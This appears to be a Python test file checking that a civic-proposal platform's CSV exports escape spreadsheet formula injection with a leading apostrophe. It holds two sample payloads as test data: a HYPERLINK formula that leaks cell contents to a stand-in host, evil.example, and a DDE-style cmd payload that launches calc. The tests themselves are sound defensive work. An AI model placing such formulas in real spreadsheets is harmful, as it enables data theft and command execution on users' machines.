"""CSV cells that a spreadsheet would run as formulas are written as text (OWASP: a leading
``'``), in every CSV we write: the open data and the public-comment table share one writer."""

from __future__ import annotations

import asyncio

from exports.outputs import csv_rows, zip_tables

from backend.exports.csv_table import table_csv
from support import Api, post_proposal

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"詳しくはこちら")'
COMMAND = "+cmd|' /C calc'!A0"


async def _staff_export(planner: Api, process_id: int, name: str) -> bytes:
    job = await planner.post(f"/api/v1/processes/{process_id}/exports", json={"format": name})
    assert job.status_code == 202, job.text
    for _ in range(200):
        state = (await planner.get(f"/api/v1/exports/{job.json()['id']}")).json()
        if state["status"] in ("succeeded", "failed"):
            break
        await asyncio.sleep(0.05)
    assert state["status"] == "succeeded", state
    return (await planner.get(f"/api/v1/exports/{job.json()['id']}/download")).content


async def test_formulas_in_proposals_are_text_in_the_open_data_csv(
    resident: Api, planner: Api, process_id: int, worker: None
) -> None:
    await post_proposal(
        resident, process_id, title=HYPERLINK, body=COMMAND, tags=["@SUM(1+1)", "-2+3"]
    )
    await post_proposal(resident, process_id, title="普通の提案", body="バスを増やして")
    proposals = zip_tables(await _staff_export(planner, process_id, "opendata-csv"))["proposals"]
    header, *rows = proposals
    by_title = {row[header.index("title")]: row for row in rows}
    dangerous = by_title["'" + HYPERLINK]
    assert dangerous[header.index("body")] == "'" + COMMAND
    assert dangerous[header.index("tags")].startswith("'")
    assert "普通の提案" in by_title  # ordinary text is untouched
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers() -> None:
    rows = [{"text": start + "1+1", "number": -3} for start in ("=", "+", "-", "@", "\t", "\r")]
    written = csv_rows(table_csv(("text", "number"), rows))
    assert [r[0] for r in written[1:]] == ["'" + r["text"] for r in rows]
    assert {r[1] for r in written[1:]} == {"-3"}
